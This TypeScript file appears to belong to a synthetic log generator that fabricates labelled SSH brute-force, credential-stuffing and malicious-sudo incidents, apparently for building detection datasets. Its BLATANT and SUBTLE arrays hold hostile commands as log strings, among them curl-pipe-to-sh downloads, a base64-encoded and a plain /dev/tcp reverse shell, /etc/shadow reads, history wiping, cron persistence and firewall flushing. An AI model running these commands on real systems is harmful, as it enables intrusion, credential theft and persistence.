import type { Incident, PlanCtx } from '../engine/types.ts';
import {
  pamAuthFailure,
  pamMoreFailures,
  sessionLine,
  sshAccepted,
  sshBreakIn,
  sshDisconnect,
  sshFailed,
  sshInvalidUser,
  sudoCommand,
  userAdded,
} from '../format/auth-lines.ts';
import { authLine, pid, SCANNER_USERS } from '../normal/common.ts';
import { HOUR, MINUTE, SECOND } from '../time.ts';
import type { Host } from '../world/index.ts';
import { ephemeralPort, rdnsName } from '../world/net.ts';
import { freshIp, IncidentBuilder, sized, warps, windowAt } from './kit.ts';

const STUFFED_NAMES = [
  'john',
  'maria',
  'david',
  'admin',
  'sales',
  'info',
  'backup',
  'michael',
  'jenkins',
  'git',
  'ubuntu',
  'support',
  'office',
];

function publicTarget(ctx: PlanCtx): Host {
  const pub = ctx.world.hosts.filter((h) => h.public);
  return ctx.rng.pick(pub.length ? pub : ctx.world.hosts);
}

/** Many failed logins from one new address: bursts of connections, or one guess every few minutes for hours. */
export function planBruteForce(ctx: PlanCtx): Incident {
  const slow = ctx.variant === 'low_and_slow';
  const host = publicTarget(ctx);
  const ip = freshIp(ctx);
  const dictionary = ctx.rng.chance(0.4);
  const tries = slow ? 1 : ctx.rng.int(2, 4);
  const units = slow ? sized(ctx, 6, 24, 6) : sized(ctx, 5, 24, 5);
  const dur = slow ? ctx.rng.range(3, 10) * HOUR : (units * tries * 60_000) / (1 + 14 * ctx.intensity) + 2 * MINUTE;
  const { start, end } = windowAt(ctx, dur);
  const breakIn = ctx.rng.chance(0.35);
  const b = new IncidentBuilder(ctx);
  const label = b.label(
    'ec2.auth',
    { kind: 'ip', id: ip },
    start,
    end,
    `${slow ? 'slow ' : ''}SSH password guessing against ${host.hostname} from ${ip}`,
    { ip, host: host.hostname },
  );
  const rdns = rdnsName(ip, ctx.rng);
  b.stream({
    label,
    source: 'ec2.auth',
    units,
    linesPerUnit: 2 * tries + (dictionary ? 1 : tries > 1 ? 2 : 1) + (breakIn ? 1 : 0),
    start,
    end,
    span: (tries * 3 + 4) * SECOND,
    warp: slow ? warps.uniform : warps.burst,
    unit(t, c) {
      const p = pid(c.rng);
      const port = ephemeralPort(c.rng);
      const user = dictionary ? c.rng.pick(SCANNER_USERS) : 'root';
      const h = host.hostname;
      if (breakIn) authLine(c, h, t, sshBreakIn(p, ip, rdns), label);
      if (dictionary) authLine(c, h, t, sshInvalidUser(p, user, ip, port), label);
      for (let i = 0; i < tries; i++) {
        const at = t + (i * 3 + 1) * SECOND;
        if (!dictionary) authLine(c, h, at, pamAuthFailure(p, 'sshd', ip, user), label);
        else if (i > 0) authLine(c, h, at, pamAuthFailure(p, 'sshd', ip), label);
        authLine(c, h, at + SECOND, sshFailed(p, user, dictionary, ip, port), label);
      }
      const last = t + (tries * 3 + 2) * SECOND;
      if (dictionary) {
        authLine(c, h, last, sshDisconnect(p, 'disconnected_user', ip, port, user, true), label);
      } else {
        if (tries > 1) authLine(c, h, last, pamMoreFailures(p, tries - 1, ip, user), label);
        authLine(
          c,
          h,
          last + SECOND,
          tries > 1 ? sshDisconnect(p, 'bye', ip, port) : sshDisconnect(p, 'closed_user', ip, port, user),
          label,
        );
      }
    },
  });
  return b.build('ssh_brute_force', start, end);
}

/** Many addresses, each trying a leaked user name once or twice: low per-IP rates, high breadth. */
export function planCredentialStuffing(ctx: PlanCtx): Incident {
  const slow = ctx.variant === 'low_and_slow';
  const host = publicTarget(ctx);
  const units = slow ? sized(ctx, 4, 10, 4) : sized(ctx, 6, 27, 6);
  const ips = Array.from({ length: units }, () => freshIp(ctx));
  const employees = ctx.world.users.filter((u) => u.human).map((u) => u.login);
  const { start, end } = windowAt(ctx, slow ? ctx.rng.range(8, 24) * HOUR : ctx.rng.range(0.5, 3) * HOUR);
  const b = new IncidentBuilder(ctx);
  const label = b.label(
    'ec2.auth',
    { kind: 'host', id: host.hostname },
    start,
    end,
    `credential stuffing against ${host.hostname} from ${units} addresses`,
    {
      host: host.hostname,
      ipCount: units,
      sourceIps: ips.slice(0, 32).join(','),
    },
  );
  b.stream({
    label,
    source: 'ec2.auth',
    units,
    linesPerUnit: 3,
    start,
    end,
    span: 5 * SECOND,
    unit(t, c, i) {
      const ip = ips[i % ips.length];
      const p = pid(c.rng);
      const port = ephemeralPort(c.rng);
      const h = host.hostname;
      const valid = employees.length > 0 && c.rng.chance(0.45);
      const user = valid ? c.rng.pick(employees) : c.rng.pick(STUFFED_NAMES);
      if (valid) {
        authLine(c, h, t, pamAuthFailure(p, 'sshd', ip, user), label);
        authLine(c, h, t + 2 * SECOND, sshFailed(p, user, false, ip, port), label);
        authLine(c, h, t + 3 * SECOND, sshDisconnect(p, 'closed_user', ip, port, user), label);
      } else {
        authLine(c, h, t, sshInvalidUser(p, user, ip, port), label);
        authLine(c, h, t + 2 * SECOND, sshFailed(p, user, true, ip, port), label);
        authLine(c, h, t + 3 * SECOND, sshDisconnect(p, 'disconnected_user', ip, port, user, true), label);
      }
    },
  });
  return b.build('credential_stuffing', start, end);
}

const BLATANT = [
  (ip: string) => `/usr/bin/bash -c curl -fsSL http://${ip}/x.sh | sh`,
  (ip: string) => `/usr/bin/wget -q http://${ip}:8080/kworker -O /tmp/.X11-unix/kworker`,
  () => '/usr/bin/chmod +x /tmp/.X11-unix/kworker',
  () => '/usr/bin/bash -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE= | base64 -d | bash',
  (ip: string) => `/usr/bin/bash -c bash -i >& /dev/tcp/${ip}/4444 0>&1`,
  () => '/usr/bin/cat /etc/shadow',
  () => '/usr/bin/rm -f /root/.bash_history /home/ubuntu/.bash_history',
  () => '/usr/bin/crontab -l',
  (ip: string) => `/usr/bin/bash -c (crontab -l; echo "*/5 * * * * curl -fsSL http://${ip}/x.sh | sh") | crontab -`,
  () => '/usr/bin/systemctl stop amazon-ssm-agent',
  () => '/usr/sbin/iptables -F',
];
const SUBTLE = [
  () => '/usr/bin/cat /etc/shadow',
  (ip: string) => `/usr/bin/curl -s http://${ip}/u -o /var/tmp/.u`,
  () => '/usr/bin/find / -name id_rsa -o -name *.pem',
  () => '/usr/bin/tar -czf /var/tmp/.c.tgz /home',
];

/** A compromised (or rogue) account downloading and running code, wiping history, adding a uid 0 user. */
export function planSuspiciousCommand(ctx: PlanCtx): Incident {
  const slow = ctx.variant === 'low_and_slow';
  const candidates = ctx.world.users.filter((u) => u.human && u.hosts.length);
  const user = ctx.rng.pick(candidates.length ? candidates : ctx.world.users);
  const hosts = ctx.world.hosts.filter((h) => user.hosts.includes(h.hostname));
  const host = ctx.rng.pick(hosts.length ? hosts : ctx.world.hosts);
  const c2 = freshIp(ctx);
  const from = host.public
    ? slow
      ? user.ips[0]
      : freshIp(ctx)
    : (ctx.world.hosts.find((h) => h.role === 'bastion')?.privateIp ?? user.ips[0]);
  const commands = slow ? ctx.rng.int(1, 2) : Math.max(1, Math.round((3 + 6 * ctx.intensity) * ctx.fit));
  const list = slow ? SUBTLE : BLATANT;
  const persistUser = !slow && ctx.intensity > 0.6;
  const dur = slow ? ctx.rng.range(2, 6) * HOUR : ctx.rng.range(10, 45) * MINUTE;
  const { start, end } = windowAt(ctx, dur);
  const b = new IncidentBuilder(ctx);
  const label = b.label(
    'ec2.auth',
    { kind: 'host', id: host.hostname },
    start,
    end,
    `${user.login} runs ${slow ? 'reconnaissance' : 'download-and-execute'} commands as root on ${host.hostname}`,
    {
      host: host.hostname,
      user: user.login,
      ip: from,
    },
  );
  const port = ephemeralPort(ctx.rng);
  const sshPid = pid(ctx.rng);
  const step = (end - start - 2 * MINUTE) / (commands + 2);
  b.stream({
    label,
    source: 'ec2.auth',
    units: 1,
    linesPerUnit: 2 + 3 * commands + (persistUser ? 1 : 0) + 3,
    start,
    end: start + SECOND * 2,
    unit(t, c) {
      const h = host.hostname;
      authLine(c, h, t, sshAccepted(sshPid, user.login, user.sshMethod, from, port, user.keyFingerprint), label);
      authLine(c, h, t, sessionLine('sshd', sshPid, true, user.login, user.uid), label);
      for (let i = 0; i < commands; i++) {
        const at = t + (i + 1) * step;
        const cmd = list[(i + c.rng.int(0, 1)) % list.length](c2);
        const sp = pid(c.rng);
        authLine(c, h, at, sudoCommand(user.login, 'pts/1', '/tmp', 'root', cmd), label);
        authLine(c, h, at, sessionLine('sudo', sp, true, 'root', 0, { name: user.login, uid: user.uid }), label);
        authLine(c, h, at + c.rng.range(1, 30) * SECOND, sessionLine('sudo', sp, false, 'root', 0), label);
      }
      if (persistUser)
        authLine(c, h, t + (commands + 0.5) * step, userAdded(pid(c.rng), 'sysadmin', 0, '/root'), label);
      const out = t + (commands + 1) * step;
      authLine(c, h, out, sshDisconnect(sshPid, 'byuser', from, port), label);
      authLine(c, h, out, sshDisconnect(sshPid, 'disconnected_user', from, port, user.login), label);
      authLine(c, h, out, sessionLine('sshd', sshPid, false, user.login, user.uid), label);
    },
  });
  return b.build('suspicious_command', start, end);
}
